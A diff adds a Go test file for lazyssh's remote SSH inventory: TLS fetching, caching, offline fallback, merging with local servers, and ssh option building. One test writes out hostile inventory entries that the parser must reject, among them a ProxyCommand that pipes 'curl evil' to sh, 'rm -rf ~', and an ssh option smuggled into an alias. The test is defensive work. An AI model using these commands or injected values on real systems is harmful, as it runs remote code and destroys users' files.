@@ -0,0 +1,304 @@
+// Copyright 2025.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package services
+
+import (
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/Adembc/lazyssh/internal/config"
+	"github.com/Adembc/lazyssh/internal/core/domain"
+	"github.com/Adembc/lazyssh/internal/core/ports"
+	"go.uber.org/zap"
+)
+
+const remoteInventoryDoc = `version: 1
+servers:
+  - alias: shared
+    host: shared.example.com
+    user: deploy
+    tags: [team]
+    options:
+      ProxyJump: bastion
+  - alias: web
+    host: other.example.com
+`
+
+// newTestRemoteInventory serves body over TLS and returns a source for it with its cache
+// in a temporary directory, plus the number of requests served so far.
+func newTestRemoteInventory(t *testing.T, body string) (*remoteInventory, *httptest.Server, *atomic.Int32) {
+	t.Helper()
+	var hits atomic.Int32
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hits.Add(1)
+		if r.Header.Get("Authorization") != "Bearer secret" {
+			http.Error(w, "unauthorized", http.StatusUnauthorized)
+			return
+		}
+		_, _ = w.Write([]byte(body))
+	}))
+	t.Cleanup(srv.Close)
+
+	t.Setenv("LAZYSSH_TEST_TOKEN", "secret")
+	cfg := config.Config{
+		RemoteInventoryURL:     srv.URL,
+		RemoteInventoryHeaders: map[string]string{"Authorization": "Bearer ${LAZYSSH_TEST_TOKEN}"},
+	}
+	source := NewRemoteInventory(zap.NewNop().Sugar(), cfg, filepath.Join(t.TempDir(), "remote_inventory.yaml"))
+	r, ok := source.(*remoteInventory)
+	if !ok {
+		t.Fatalf("NewRemoteInventory returned %T", source)
+	}
+	r.client = srv.Client()
+	return r, srv, &hits
+}
+
+func TestRemoteInventoryFetchesAndCaches(t *testing.T) {
+	r, _, hits := newTestRemoteInventory(t, remoteInventoryDoc)
+
+	if servers, _ := r.Servers(); len(servers) != 0 {
+		t.Fatalf("Servers before the first fetch = %+v, want none", servers)
+	}
+	r.refresh()
+	servers, err := r.Servers()
+	if err != nil {
+		t.Fatalf("Servers: %v", err)
+	}
+	if len(servers) != 2 {
+		t.Fatalf("got %d servers, want 2", len(servers))
+	}
+	got := servers[0]
+	if !got.ReadOnly || got.Host != "shared.example.com" || got.Port != 22 || got.ProxyJump != "bastion" {
+		t.Errorf("unexpected server %+v", got)
+	}
+	if !reflect.DeepEqual(got.Aliases, []string{"shared"}) {
+		t.Errorf("Aliases = %v, want [shared]", got.Aliases)
+	}
+	if _, err := os.Stat(r.cachePath); err != nil {
+		t.Fatalf("inventory not cached: %v", err)
+	}
+
+	// A fresh cache on disk is used instead of fetching again.
+	if wait := r.refresh(); wait <= 0 || wait > r.ttl {
+		t.Errorf("refresh wait = %v, want within the TTL", wait)
+	}
+	if servers, _ := r.Servers(); len(servers) != 2 {
+		t.Errorf("Servers from cache = %+v", servers)
+	}
+	if n := hits.Load(); n != 1 {
+		t.Errorf("fetched %d times, want 1", n)
+	}
+}
+
+func TestRemoteInventoryFallsBackToCacheWhenOffline(t *testing.T) {
+	r, srv, _ := newTestRemoteInventory(t, remoteInventoryDoc)
+	r.refresh()
+
+	// Expire the cache and take the server away; a new source starts from the cache alone.
+	old := time.Now().Add(-2 * r.ttl)
+	if err := os.Chtimes(r.cachePath, old, old); err != nil {
+		t.Fatal(err)
+	}
+	srv.Close()
+	r.loaded, r.servers = false, nil
+
+	if wait := r.refresh(); wait != remoteInventoryRetry {
+		t.Errorf("retry after %v, want %v", wait, remoteInventoryRetry)
+	}
+	servers, err := r.Servers()
+	if err != nil {
+		t.Fatalf("Servers offline: %v", err)
+	}
+	if len(servers) != 2 || !servers[0].ReadOnly {
+		t.Errorf("stale cache not used: %+v", servers)
+	}
+}
+
+func TestRemoteInventoryErrorsWithoutCache(t *testing.T) {
+	r, srv, _ := newTestRemoteInventory(t, remoteInventoryDoc)
+	srv.Close()
+	r.refresh()
+	if _, err := r.Servers(); err == nil {
+		t.Fatal("expected an error with no server and no cache")
+	}
+}
+
+func TestNewRemoteInventoryRequiresHTTPS(t *testing.T) {
+	for _, u := range []string{"", "http://example.com/inventory.yaml", "https://"} {
+		cfg := config.Config{RemoteInventoryURL: u}
+		if source := NewRemoteInventory(zap.NewNop().Sugar(), cfg, filepath.Join(t.TempDir(), "c.yaml")); source != nil {
+			t.Errorf("NewRemoteInventory(%q) = %T, want nil", u, source)
+		}
+	}
+}
+
+// listRepo is a ServerRepository that lists fixed servers; other methods are not used.
+type listRepo struct {
+	ports.ServerRepository
+	servers []domain.Server
+}
+
+func (r listRepo) ListServers(string) ([]domain.Server, error) {
+	return append([]domain.Server(nil), r.servers...), nil
+}
+
+func (r listRepo) DrainWarnings() []string { return nil }
+
+type staticSource struct {
+	servers []domain.Server
+	err     error
+}
+
+func (s staticSource) Servers() ([]domain.Server, error) { return s.servers, s.err }
+
+func (s staticSource) Watch(<-chan struct{}, func()) {}
+
+func TestListServersMergesRemoteInventory(t *testing.T) {
+	repo := listRepo{servers: []domain.Server{{Alias: "web", Host: "web.internal"}}}
+	remote := staticSource{servers: []domain.Server{
+		{Alias: "web", Host: "other.example.com", ReadOnly: true},
+		{Alias: "shared", Host: "shared.example.com", Tags: []string{"team"}, ReadOnly: true},
+	}}
+	s := &serverService{logger: zap.NewNop().Sugar(), serverRepository: repo, remote: remote}
+
+	servers, err := s.ListServers("")
+	if err != nil {
+		t.Fatalf("ListServers: %v", err)
+	}
+	if len(servers) != 2 || servers[0].Alias != "shared" || servers[1].Alias != "web" {
+		t.Fatalf("got %+v", servers)
+	}
+	if servers[1].ReadOnly || servers[1].Host != "web.internal" {
+		t.Errorf("local web was replaced by the remote one: %+v", servers[1])
+	}
+
+	servers, err = s.ListServers("team")
+	if err != nil {
+		t.Fatalf("ListServers: %v", err)
+	}
+	if len(servers) != 1 || servers[0].Alias != "shared" {
+		t.Errorf("team matched %+v", servers)
+	}
+}
+
+func TestListServersWarnsOnceWhenRemoteFails(t *testing.T) {
+	repo := listRepo{servers: []domain.Server{{Alias: "web"}}}
+	s := &serverService{logger: zap.NewNop().Sugar(), serverRepository: repo, remote: staticSource{err: errors.New("offline")}}
+
+	for i := 0; i < 2; i++ {
+		servers, err := s.ListServers("")
+		if err != nil || len(servers) != 1 {
+			t.Fatalf("ListServers = %v, %v; want the local server", servers, err)
+		}
+	}
+	if w := s.DrainWarnings(); len(w) != 1 {
+		t.Errorf("warnings = %v, want one", w)
+	}
+	if w := s.DrainWarnings(); len(w) != 0 {
+		t.Errorf("warnings repeated: %v", w)
+	}
+}
+
+func TestOptionArgs(t *testing.T) {
+	srv := domain.Server{
+		Alias:         "shared",
+		Host:          "shared.example.com",
+		User:          "deploy",
+		Port:          2222,
+		IdentityFiles: []string{"~/.ssh/a", "~/.ssh/b"},
+		Tags:          []string{"team"},
+		ProxyJump:     "bastion",
+		ReadOnly:      true,
+	}
+	want := []string{
+		"-o", "HostName=shared.example.com",
+		"-o", "User=deploy",
+		"-o", "Port=2222",
+		"-o", "IdentityFile=~/.ssh/a",
+		"-o", "IdentityFile=~/.ssh/b",
+		"-o", "ProxyJump=bastion",
+	}
+	if got := optionArgs(srv); !reflect.DeepEqual(got, want) {
+		t.Errorf("optionArgs = %q, want %q", got, want)
+	}
+}
+
+func TestRemoteInventoryWatchStops(t *testing.T) {
+	r, _, _ := newTestRemoteInventory(t, remoteInventoryDoc)
+	stop := make(chan struct{})
+	changed := make(chan struct{}, 1)
+	done := make(chan struct{})
+	go func() {
+		r.Watch(stop, func() { changed <- struct{}{} })
+		close(done)
+	}()
+
+	select {
+	case <-changed:
+	case <-time.After(5 * time.Second):
+		t.Fatal("Watch did not report the first fetch")
+	}
+	if servers, err := r.Servers(); err != nil || len(servers) != 2 {
+		t.Errorf("Servers after Watch = %+v, %v", servers, err)
+	}
+	close(stop)
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatal("Watch did not return after stop")
+	}
+}
+
+func TestParseRemoteInventoryRefusesCommands(t *testing.T) {
+	entries := map[string]string{
+		"ProxyCommand":     "    options:\n      ProxyCommand: sh -c 'curl evil | sh'\n",
+		"LocalCommand":     "    options:\n      LocalCommand: touch /tmp/pwned\n      PermitLocalCommand: \"yes\"\n",
+		"RemoteCommand":    "    options:\n      RemoteCommand: rm -rf ~\n",
+		"LocalForward":     "    list_options:\n      LocalForward: [\"8080:localhost:80\"]\n",
+		"AutoTunnels":      "    auto_tunnels: [\"5432:db:5432\"]\n",
+		"option ProxyJump": "    options:\n      ProxyJump: -oProxyCommand=touch /tmp/pwned\n",
+	}
+	for name, extra := range entries {
+		doc := "version: 1\nservers:\n  - alias: shared\n    host: shared.example.com\n" + extra
+		if servers, err := parseRemoteInventory([]byte(doc)); err == nil {
+			t.Errorf("%s: parseRemoteInventory accepted %+v", name, servers)
+		}
+	}
+
+	doc := "version: 1\nservers:\n  - alias: -oProxyCommand=touch\n    host: shared.example.com\n"
+	if _, err := parseRemoteInventory([]byte(doc)); err == nil {
+		t.Error("parseRemoteInventory accepted an alias that ssh would read as an option")
+	}
+}
+
+func TestDeleteServerRefusesRemoteServers(t *testing.T) {
+	repo := listRepo{servers: []domain.Server{{Alias: "web"}}}
+	remote := staticSource{servers: []domain.Server{{Alias: "shared", Host: "shared.example.com", ReadOnly: true}}}
+	s := &serverService{logger: zap.NewNop().Sugar(), serverRepository: repo, remote: remote}
+
+	// The flag is looked up by alias, so a caller passing a bare server is refused too.
+	for _, srv := range []domain.Server{{Alias: "shared", ReadOnly: true}, {Alias: "shared"}} {
+		if err := s.DeleteServer(srv); !errors.Is(err, domain.ErrReadOnly) {
+			t.Errorf("DeleteServer(%+v) = %v, want ErrReadOnly", srv, err)
+		}
+	}
+}